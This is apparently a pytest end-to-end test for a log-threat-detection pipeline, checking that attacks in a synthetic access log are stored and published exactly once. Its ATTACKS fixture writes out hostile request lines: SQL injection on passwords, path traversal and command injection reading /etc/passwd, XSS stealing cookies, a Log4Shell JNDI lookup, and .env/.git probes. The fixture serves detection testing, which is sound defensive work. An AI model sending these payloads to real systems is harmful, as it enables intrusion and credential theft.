"""The pipeline end to end: a log with known attacks is tailed, every attack is stored exactly
once, every stored event is published exactly once, and the checkpoint reaches the file's end.
Runs on SQLite with the in-process broker and on PostgreSQL with Redis."""

from __future__ import annotations

import asyncio
import contextlib
import os
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from tests.conftest import REDIS_TEST_URL, make_settings, unique_redis_prefix
from vigil.batch import event_key
from vigil.db import migrate
from vigil.db.models import IngestCheckpoint, ThreatEvent
from vigil.db.session import get_db_context
from vigil.pipeline.assembly import open_pipeline
from vigil.sinks.broker import Broker, MemoryBroker, RedisBroker
from vigil.sinks.store import DbCheckpointStore, StoreSink
from vigil.sources.tailer import FileTailer

UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36"
ATTACKS = [
    '"GET /item.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1" '
    "200 512",
    '"GET /download?file=../../../../etc/passwd HTTP/1.1" 200 99',
    '"GET /search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1" 200 88',
    '"GET /?x=${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1" 200 10',
    '"GET /cgi-bin/test.cgi?cmd=;cat%20/etc/passwd HTTP/1.1" 404 0',
    '"GET /.env HTTP/1.1" 404 0',
    '"GET /.git/config HTTP/1.1" 404 0',
]
BENIGN = [
    '"GET / HTTP/1.1" 200 5120',
    '"GET /static/app.css HTTP/1.1" 200 2048',
    '"GET /products?category=shoes&page=2 HTTP/1.1" 200 4096',
    '"GET /search?q=union+station+hotel HTTP/1.1" 200 3000',
    '"POST /api/cart HTTP/1.1" 201 64',
]


def _write_log(path: Path, rounds: int) -> set[int]:
    """Write the log; returns the byte offsets of the attack lines."""
    offsets: set[int] = set()
    position = 0
    lines = []
    for i in range(rounds):
        for j, request in enumerate(BENIGN):
            lines.append((f"198.51.100.{(i + j) % 200 + 1}", request, False))
        attack = ATTACKS[i % len(ATTACKS)]
        lines.append((f"203.0.113.{i % 50 + 1}", attack, True))
    with path.open("wb") as handle:
        for n, (ip, request, is_attack) in enumerate(lines):
            second = n % 60
            minute = (n // 60) % 60
            text = (
                f'{ip} - - [10/Oct/2026:13:{minute:02d}:{second:02d} +0000] {request} "-" "{UA}"\n'
            ).encode()
            if is_attack:
                offsets.add(position)
            handle.write(text)
            position += len(text)
    return offsets


async def _collect(broker: Broker, sink: list[dict[str, Any]], ready: asyncio.Event) -> None:
    agen = broker.subscribe()
    task = asyncio.ensure_future(agen.__anext__())
    await asyncio.sleep(0.2)
    ready.set()
    try:
        sink.append(await task)
        async for message in agen:
            sink.append(message)
    finally:
        with contextlib.suppress(Exception):
            await agen.aclose()


@pytest.mark.parametrize("with_redis", [False, pytest.param(True, marks=pytest.mark.redis)])
async def test_tailed_log_is_stored_and_published_exactly_once(
    database_url: str, tmp_path: Path, with_redis: bool
) -> None:
    from vigil.db.session import configure_db

    if with_redis and not REDIS_TEST_URL:
        pytest.fail("VIGIL_TEST_REDIS_URL is not set; run the suite through `make test`")
    log_path = tmp_path / "access.log"
    attack_offsets = _write_log(log_path, rounds=70)
    settings = make_settings(
        database_url, log_paths=str(log_path), batch_size=64, detection_mode="rules"
    )
    await asyncio.to_thread(migrate.upgrade, "head", settings)
    broker: Broker = (
        RedisBroker(REDIS_TEST_URL, prefix=unique_redis_prefix()) if with_redis else MemoryBroker()
    )
    await broker.connect()
    received: list[dict[str, Any]] = []
    ready = asyncio.Event()
    collector = asyncio.create_task(_collect(broker, received, ready))
    await ready.wait()
    tailer = FileTailer.from_section(settings.file_source, checkpoints=DbCheckpointStore())
    size = os.path.getsize(log_path)
    try:
        async with open_pipeline(settings, sources=[tailer], broker=broker) as pipeline:
            await _check_tailed_log(pipeline, size, attack_offsets, received)
    finally:
        collector.cancel()
        with contextlib.suppress(BaseException):
            await collector
        await broker.close()
        configure_db(None)


async def _check_tailed_log(
    pipeline: Any, size: int, attack_offsets: set[int], received: list[dict[str, Any]]
) -> None:
    for _ in range(300):
        async with get_db_context() as session:
            offset = await session.scalar(select(IngestCheckpoint.byte_offset))
        if offset == size:
            break
        await asyncio.sleep(0.1)
    assert offset == size
    await pipeline.stop()
    await asyncio.sleep(0.5)
    async with get_db_context() as session:
        rows = list(await session.execute(select(ThreatEvent.id, ThreatEvent.event_key)))
        origins = list(
            await session.execute(select(IngestCheckpoint.source, IngestCheckpoint.file_id))
        )
    assert len(origins) == 1
    source, file_id = origins[0]
    stored_ids = [r.id for r in rows]
    keys = {r.event_key for r in rows}
    expected = {event_key(source, file_id, off) for off in attack_offsets}
    missing = expected - keys
    assert not missing, f"{len(missing)} of {len(expected)} known attacks not stored"
    assert len(stored_ids) == len(set(stored_ids))
    published = Counter(m["id"] for m in received)
    assert set(published) == set(stored_ids)
    assert max(published.values()) == 1


class _SlowFirstStore(StoreSink):
    """A store whose first write stalls, so that the batches behind it pile up in the queue."""

    def __init__(self, settings: Any) -> None:
        super().__init__(settings)
        self.calls: list[int] = []

    async def store(self, batch: Any, **kwargs: Any) -> Any:
        if not self.calls:
            await asyncio.sleep(1.0)
        self.calls.append(batch.lines)
        return await super().store(batch, **kwargs)


async def test_batches_waiting_for_the_store_are_stored_together_exactly_once(
    database_url: str, tmp_path: Path
) -> None:
    log_path = tmp_path / "access.log"
    attack_offsets = _write_log(log_path, rounds=70)
    data = log_path.read_bytes()
    settings = make_settings(database_url, batch_size=64, queue_size=64, detection_mode="rules")
    await asyncio.to_thread(migrate.upgrade, "head", settings)
    await _store_merged_batches(settings, data, attack_offsets)


async def _store_merged_batches(settings: Any, data: bytes, attack_offsets: set[int]) -> None:
    from vigil.batch import LineBatch

    store = _SlowFirstStore(settings)
    batches = 0
    async with open_pipeline(settings, sinks=[store]) as pipeline:
        lines = data.split(b"\n")[:-1]
        offsets = []
        position = 0
        for line in lines:
            offsets.append(position)
            position += len(line) + 1
        for start in range(0, len(lines), 64):
            end_offset = offsets[start + 64] if start + 64 < len(lines) else len(data)
            await pipeline.submit(
                LineBatch(
                    "test",
                    "log-1",
                    lines[start : start + 64],
                    offsets[start : start + 64],
                    end_offset,
                )
            )
            batches += 1
        await pipeline.stop()
        async with get_db_context() as session:
            keys = list(await session.scalars(select(ThreatEvent.event_key)))
            checkpoint = await session.scalar(select(IngestCheckpoint.byte_offset))
        assert checkpoint == len(data)
        assert sorted(keys) == sorted(event_key("test", "log-1", off) for off in attack_offsets)
        assert len(store.calls) < batches, "waiting batches were not merged"
        assert sum(store.calls) == len(lines)
        assert pipeline.counters["store"].batches_in == batches
        assert pipeline.counters["store"].batches_out == batches
